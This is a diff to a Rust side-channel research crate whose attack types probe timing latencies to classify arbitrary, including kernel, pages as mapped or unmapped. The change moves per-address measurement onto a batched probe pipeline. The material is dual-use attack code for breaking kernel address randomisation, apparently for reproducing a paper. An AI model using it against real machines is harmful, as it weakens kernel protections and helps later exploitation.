@@ -10,6 +10,7 @@ use avx_uarch::OpKind;
 use crate::calibrate::Threshold;
 use crate::prober::{ProbeStrategy, Prober};
 use crate::stats::two_means_threshold;
+use crate::sweep::AddrRange;
 
 /// P2: mapped/unmapped classification of arbitrary (incl. kernel) pages.
 #[derive(Clone, Copy, Debug)]
@@ -44,8 +45,16 @@ impl PageTableAttack {
         self.threshold.is_mapped(self.measure(p, addr))
     }
 
+    /// Measures every candidate of `addrs` through the batched probe
+    /// pipeline; returns raw latencies in input order.
+    pub fn measure_addrs<P: Prober + ?Sized>(&self, p: &mut P, addrs: &[VirtAddr]) -> Vec<u64> {
+        self.strategy.measure_batch(p, self.op, addrs)
+    }
+
     /// Measures `count` candidates at `stride` from `start`; returns the
-    /// raw latencies (the Fig. 4 series).
+    /// raw latencies (the Fig. 4 series). Feeds the range through
+    /// [`ProbeStrategy::measure_batch`] in tiles rather than one
+    /// per-address call at a time.
     pub fn measure_range<P: Prober + ?Sized>(
         &self,
         p: &mut P,
@@ -53,15 +62,16 @@ impl PageTableAttack {
         stride: u64,
         count: u64,
     ) -> Vec<u64> {
-        (0..count)
-            .map(|i| self.measure(p, start.wrapping_add(i * stride)))
-            .collect()
+        self.measure_addrs(p, &AddrRange::new(start, stride, count).to_vec())
     }
 
     /// Classifies a measured series with the attack's threshold.
     #[must_use]
     pub fn classify(&self, samples: &[u64]) -> Vec<bool> {
-        samples.iter().map(|&s| self.threshold.is_mapped(s)).collect()
+        samples
+            .iter()
+            .map(|&s| self.threshold.is_mapped(s))
+            .collect()
     }
 }
 
@@ -80,6 +90,12 @@ impl Default for LevelAttack {
 }
 
 impl LevelAttack {
+    /// Measures every candidate of `addrs` with a min-filter through the
+    /// batched probe pipeline.
+    pub fn measure_addrs<P: Prober + ?Sized>(&self, p: &mut P, addrs: &[VirtAddr]) -> Vec<u64> {
+        ProbeStrategy::MinOf(self.repeats).measure_batch(p, OpKind::Load, addrs)
+    }
+
     /// Measures each candidate with a min-filter.
     pub fn measure_range<P: Prober + ?Sized>(
         &self,
@@ -88,10 +104,7 @@ impl LevelAttack {
         stride: u64,
         count: u64,
     ) -> Vec<u64> {
-        let strategy = ProbeStrategy::MinOf(self.repeats);
-        (0..count)
-            .map(|i| strategy.measure(p, OpKind::Load, start.wrapping_add(i * stride)))
-            .collect()
+        self.measure_addrs(p, &AddrRange::new(start, stride, count).to_vec())
     }
 
     /// Finds the slow outliers of a series — candidates whose walks
